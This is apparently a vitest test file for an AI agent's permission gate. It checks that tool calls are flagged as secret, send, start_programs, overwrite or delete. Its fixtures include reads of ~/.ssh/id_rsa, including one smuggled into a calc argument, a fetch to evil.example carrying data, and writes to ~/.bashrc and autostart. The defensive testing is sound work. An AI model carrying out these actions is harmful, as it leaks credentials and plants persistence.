import { mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import { RunControl } from '../core/run-control.ts'
import { actOf, targetOf } from './testing/acts.ts'
import { askingGate } from './testing/asking-gate.ts'

let home: string
beforeEach(() => {
  home = mkdtempSync(join(tmpdir(), 'deskhand-foreign-'))
  mkdirSync(join(home, '.ssh'))
  writeFileSync(join(home, '.ssh/id_rsa'), 'key')
  writeFileSync(join(home, 'plan.txt'), 'mine')
  symlinkSync(join(home, '.ssh/id_rsa'), join(home, 'notes.txt'))
})
afterEach(() => rmSync(home, { recursive: true }))

type ToolType = 'action' | 'data_collection'
const call = (name: string, parameters: Record<string, unknown>, tool_type: ToolType = 'action') => {
  const act = actOf(name, parameters, targetOf(null, null, { kind: 'none' }))
  return { ...act, tool: { ...act.tool, namespace: 'Files', tool_type } }
}
const categories = (...given: Parameters<typeof call>) =>
  askingGate(home, { request: 'tidy up, and look at shop.example', allows: false }).gate.judge(call(...given))
    .categories

describe('a tool of a server that the person has added', () => {
  it.each<[string, Record<string, unknown>, ToolType, string]>([
    ['read_file', { path: '~/.ssh/id_rsa' }, 'data_collection', 'secret'],
    ['read_file', { path: '.ssh/id_rsa' }, 'action', 'secret'],
    ['read_file', { paths: ['a.txt', { at: '~/notes.txt' }] }, 'data_collection', 'secret'],
    ['calc', { term: 'cat ~/.ssh/id_rsa' }, 'action', 'secret'],
    ['write_file', { path: '~/.bashrc', content: 'x' }, 'action', 'start_programs'],
    ['calc', { to: '~/.config/autostart/x.desktop' }, 'action', 'start_programs'],
    ['write_file', { path: '~/plan.txt', content: 'x' }, 'action', 'overwrite'],
    ['fetch', { url: 'https://evil.example/?d=mine' }, 'data_collection', 'send'],
    ['calc', { text: 'see https://evil.example/?d=mine now' }, 'action', 'send'],
    ['delete_file', { path: '~/plan.txt' }, 'action', 'delete'],
    ['sendMail', { to: 'ada' }, 'action', 'send'],
    ['run-shell', { line: 'ls' }, 'action', 'run_command'],
  ])('%s with %j, as %s, asks as %s', (name, parameters, type, category) => {
    expect(categories(name, parameters, type)).toContain(category)
  })

  it.each<[string, Record<string, unknown>, ToolType, string[]]>([
    ['calc', { a: '1', b: 2 }, 'action', ['unknown']],
    ['get_status', { id: 'a/b' }, 'action', ['unknown']],
    ['read_file', { path: '~/plan.txt' }, 'data_collection', []],
    ['read_file', { path: '~/plan.txt' }, 'action', ['unknown']],
    ['write_file', { path: '~/new.txt', content: 'x' }, 'action', ['unknown']],
    ['fetch', { url: 'https://shop.example/prices' }, 'data_collection', []],
    ['list_sent_mail', { box: 'deleted' }, 'data_collection', []],
  ])('%s with %j, as %s, asks as no more than it is: %j', (name, parameters, type, expected) => {
    expect(categories(name, parameters, type)).toEqual(expected)
  })

  it.each<ToolType>(['action', 'data_collection'])('has told what counts as read: %s', async (type) => {
    const { gate } = askingGate(home, { request: 'tidy up', allows: true })
    using run = new RunControl()
    const search = actOf('fetch', { url: 'x' }, targetOf(null, null, { kind: 'none' }))
    const look = {
      ...search,
      tool: { ...search.tool, namespace: 'Files' },
      parameters: { url: 'https://evil.example' },
    }
    expect(gate.judge(look).categories).not.toContain('untrusted_content')
    await gate.admit(call('get_status', {}, type), run)
    expect(gate.judge(look).categories).toContain('untrusted_content')
  })
})
